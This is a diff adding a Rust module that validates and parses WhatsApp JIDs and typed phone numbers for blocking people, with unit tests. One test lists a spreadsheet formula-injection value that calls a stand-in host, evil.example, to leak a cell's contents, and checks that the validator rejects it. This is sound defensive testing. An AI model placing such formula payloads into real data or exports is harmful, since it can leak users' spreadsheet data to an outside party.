@@ -1,0 +1,238 @@
+//! WhatsApp JIDs and the people they name: telling kinds of JID apart,
+//! validating them, and reading what users type into a JID to send. The
+//! phone number logic is libphonenumber's, in [`phone`].
+
+use thiserror::Error;
+
+pub mod list;
+pub mod phone;
+mod regions;
+
+pub use phone::{PhoneError, Region, Understood, format_phone};
+
+/// Suffix of a person's phone JID.
+pub const PHONE_SUFFIX: &str = "@s.whatsapp.net";
+/// Suffix of a hidden-number (`@lid`) identity.
+pub const LID_SUFFIX: &str = "@lid";
+
+/// What a JID names.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum JidKind {
+    /// `<digits>@s.whatsapp.net`
+    Phone,
+    /// `<digits>@lid`
+    Lid,
+    /// `<id>@g.us`
+    Group,
+    /// `<id>@newsletter`
+    Channel,
+    /// Anything else.
+    Other,
+}
+
+/// Tells which kind of identity a JID is.
+pub fn jid_kind(jid: &str) -> JidKind {
+    match jid.rsplit_once('@').map(|(_, server)| server) {
+        Some("s.whatsapp.net") => JidKind::Phone,
+        Some("lid") => JidKind::Lid,
+        Some("g.us") => JidKind::Group,
+        Some("newsletter") => JidKind::Channel,
+        _ => JidKind::Other,
+    }
+}
+
+/// The phone digits of a phone JID (`5511…@s.whatsapp.net` → `5511…`),
+/// ignoring a device suffix (`:12`).
+pub fn phone_digits(jid: &str) -> Option<&str> {
+    let user = jid.strip_suffix(PHONE_SUFFIX)?;
+    let user = user.split(':').next().unwrap_or(user);
+    (!user.is_empty() && user.bytes().all(|b| b.is_ascii_digit())).then_some(user)
+}
+
+/// Whether `jid` is a person's identity as the contract defines it:
+/// `<digits>@s.whatsapp.net` (with an optional `:<device>`) or
+/// `<digits>@lid`. Anything else from the server is not stored.
+pub fn is_valid_jid(jid: &str) -> bool {
+    let digits = |s: &str| !s.is_empty() && s.len() <= 32 && s.bytes().all(|b| b.is_ascii_digit());
+    if let Some(user) = jid.strip_suffix(PHONE_SUFFIX) {
+        return match user.split_once(':') {
+            Some((number, device)) => digits(number) && digits(device),
+            None => digits(user),
+        };
+    }
+    jid.strip_suffix(LID_SUFFIX).is_some_and(digits)
+}
+
+/// What a typed number or JID names: whom a block request is for.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Target {
+    /// A phone number, as understood.
+    Phone(Understood),
+    /// A hidden-number identity (`<digits>@lid`), typed as it is.
+    Lid(String),
+}
+
+impl Target {
+    /// The JID to send as `number`.
+    pub fn jid(&self) -> String {
+        match self {
+            Target::Phone(u) => format!("{}{PHONE_SUFFIX}", u.digits),
+            Target::Lid(lid) => lid.clone(),
+        }
+    }
+
+    /// E.164 (`+447912345678`), for machine output; `None` for an `@lid`.
+    pub fn e164(&self) -> Option<String> {
+        match self {
+            Target::Phone(u) => Some(u.e164()),
+            Target::Lid(_) => None,
+        }
+    }
+
+    /// How it reads on screen: the number in its country's format, or the
+    /// `@lid`.
+    pub fn shown(&self) -> String {
+        match self {
+            Target::Phone(u) => u.display.clone(),
+            Target::Lid(lid) => lid.clone(),
+        }
+    }
+
+    /// `+44 7912 345678 · United Kingdom · mobile`, or the `@lid` with
+    /// `hidden number`.
+    pub fn preview(&self) -> String {
+        match self {
+            Target::Phone(u) => u.preview(),
+            Target::Lid(lid) => format!("{lid} · hidden number"),
+        }
+    }
+}
+
+/// Why typed text names no one a block can act on.
+#[derive(Debug, Clone, PartialEq, Eq, Error)]
+pub enum TypedError {
+    /// Groups cannot be blocked.
+    #[error("{0} is a group: WhatsApp blocks people, not groups")]
+    Group(String),
+    /// Channels cannot be blocked.
+    #[error("{0} is a channel: WhatsApp blocks people, not channels")]
+    Channel(String),
+    /// A JID of no person.
+    #[error(
+        "\"{0}\" is not a person's JID: type a number, or <digits>@s.whatsapp.net / <digits>@lid"
+    )]
+    NotAJid(String),
+    /// The number could not be read, or is not valid.
+    #[error("{0}")]
+    Phone(#[from] PhoneError),
+}
+
+/// Reads what a user typed: a full JID (a person's phone JID, whose number
+/// must be valid, or an `@lid`), or a phone number read by
+/// [`phone::read`] in `region` when it has no country code. Groups and
+/// channels are refused.
+pub fn read_typed(input: &str, region: Option<Region>) -> Result<Target, TypedError> {
+    let input = input.trim();
+    if !input.contains('@') {
+        return Ok(Target::Phone(phone::read(input, region)?));
+    }
+    match jid_kind(input) {
+        JidKind::Phone => match phone_digits(input) {
+            Some(digits) if is_valid_jid(input) => {
+                Ok(Target::Phone(phone::read(&format!("+{digits}"), None)?))
+            }
+            _ => Err(TypedError::NotAJid(input.to_string())),
+        },
+        JidKind::Lid if is_valid_jid(input) => Ok(Target::Lid(input.to_string())),
+        JidKind::Group => Err(TypedError::Group(input.to_string())),
+        JidKind::Channel => Err(TypedError::Channel(input.to_string())),
+        _ => Err(TypedError::NotAJid(input.to_string())),
+    }
+}
+
+/// How a JID reads on screen: a phone JID's number in its country's
+/// format, anything else as it is.
+pub fn shown_jid(jid: &str) -> String {
+    phone_digits(jid).map_or_else(|| jid.to_string(), format_phone)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn reads_jids_and_numbers() {
+        let br = Region::from_code("BR");
+        let jid = |s: &str| read_typed(s, br).map(|t| t.jid());
+        assert_eq!(
+            jid("+55 (11) 99999-9999").unwrap(),
+            "5511999999999@s.whatsapp.net"
+        );
+        assert_eq!(
+            jid(" 5511999999999@s.whatsapp.net ").unwrap(),
+            "5511999999999@s.whatsapp.net"
+        );
+        assert_eq!(jid("123456789@lid").unwrap(), "123456789@lid");
+        assert_eq!(
+            read_typed("123456789@lid", br).unwrap().preview(),
+            "123456789@lid · hidden number"
+        );
+    }
+
+    #[test]
+    fn refuses_groups_channels_and_garbage() {
+        let read = |s: &str| read_typed(s, None);
+        assert!(matches!(read("1203630@g.us"), Err(TypedError::Group(_))));
+        assert!(matches!(read("99@newsletter"), Err(TypedError::Channel(_))));
+        assert!(matches!(
+            read("call me"),
+            Err(TypedError::Phone(PhoneError::NotANumber(_)))
+        ));
+        assert!(matches!(
+            read("abc@s.whatsapp.net"),
+            Err(TypedError::NotAJid(_))
+        ));
+        assert!(matches!(read("=1+1@lid"), Err(TypedError::NotAJid(_))));
+        assert!(
+            matches!(read("123@s.whatsapp.net"), Err(TypedError::Phone(_))),
+            "a phone JID's number must be valid"
+        );
+    }
+
+    #[test]
+    fn only_digits_before_the_server_make_a_jid() {
+        for good in [
+            "5511999999999@s.whatsapp.net",
+            "5511999999999:12@s.whatsapp.net",
+            "123456789@lid",
+        ] {
+            assert!(is_valid_jid(good), "{good}");
+        }
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid",
+            "@lid",
+            "12 34@lid",
+            "1@g.us",
+            "abc@s.whatsapp.net",
+            "1:@s.whatsapp.net",
+            "5511999999999",
+            "+5511999999999@s.whatsapp.net",
+        ] {
+            assert!(!is_valid_jid(bad), "{bad}");
+        }
+    }
+
+    #[test]
+    fn kinds_and_digits() {
+        assert_eq!(jid_kind("1@s.whatsapp.net"), JidKind::Phone);
+        assert_eq!(jid_kind("1@lid"), JidKind::Lid);
+        assert_eq!(jid_kind("1@g.us"), JidKind::Group);
+        assert_eq!(jid_kind("1@newsletter"), JidKind::Channel);
+        assert_eq!(jid_kind("nonsense"), JidKind::Other);
+        assert_eq!(
+            phone_digits("5511999999999:3@s.whatsapp.net"),
+            Some("5511999999999")
+        );
+        assert_eq!(phone_digits("123@lid"), None);
+    }
+}
